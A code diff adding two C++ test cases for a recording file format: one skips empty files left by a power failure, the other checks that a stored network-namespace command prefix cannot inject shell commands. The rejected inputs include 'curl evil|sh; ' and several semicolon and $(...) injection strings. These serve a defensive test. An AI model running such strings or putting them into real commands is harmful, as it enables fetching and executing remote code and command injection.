@@ -396,6 +396,51 @@ TEST_CASE("a flight recorder keeps its bound and its newest files", "[recording]
     CHECK(all.ends.size() == 1);
 }
 
+TEST_CASE("a file that a power failure left empty is passed over", "[recording]") {
+    const TemporaryDirectory directory;
+    const std::string path = directory.path("flight/");
+    {
+        auto writer = *RecordingWriter::open(path, {}, scene_start());
+        writer->event(scene_event(1));
+        writer->end(scene_sample(2, 1));
+    }
+    const bool newest = GENERATE(true, false);
+    std::ofstream(path + (newest ? "twtrace-00000009-20261122T090500Z.twr"
+                                 : "twtrace-00000000-20261122T080000Z.twr"));
+    for (const std::uint64_t wall_ns : {std::uint64_t{0}, scene_wall_ns + 1'000'000'000}) {
+        auto recording = Recording::open(path);
+        REQUIRE(recording);
+        REQUIRE(recording->seek(wall_ns));
+        Collected all;
+        while (recording->next(all)) {
+        }
+        CHECK(all.events.size() == 1);
+        CHECK(recording->notes().size() == 1);
+    }
+}
+
+TEST_CASE("a recording cannot put a command into people's shells", "[recording]") {
+    const TemporaryDirectory directory;
+    const auto read_back = [&](const std::string& enter) {
+        const std::string path = directory.path("a.twr");
+        std::filesystem::remove(path);
+        {
+            auto writer = *RecordingWriter::open(path, {}, scene_start());
+            writer->netns({1, "blue", enter, std::nullopt});
+            writer->end(scene_sample(1, 0));
+        }
+        return read_all(path).namespaces.front().enter;
+    };
+    for (const std::string right :
+         {"", "nsenter -t 123 -n ", "ip netns exec blue-1.a ", "nsenter --net='/run/docker/a b' ",
+          "nsenter --net='/run/it'\\''s' "})
+        CHECK(read_back(right) == right);
+    for (const std::string wrong :
+         {"curl evil|sh; ", "nsenter -t 1;id -n ", "ip netns exec a id; ", "ip netns exec $(id) ",
+          "nsenter --net='/a' id ", "nsenter --net='/a';id;'' ", "\n"})
+        CHECK(read_back(wrong) == "# in that network namespace: ");
+}
+
 TEST_CASE("a file that is not a recording is refused in one line", "[recording]") {
     const TemporaryDirectory directory;
     const std::string path = directory.path("other");
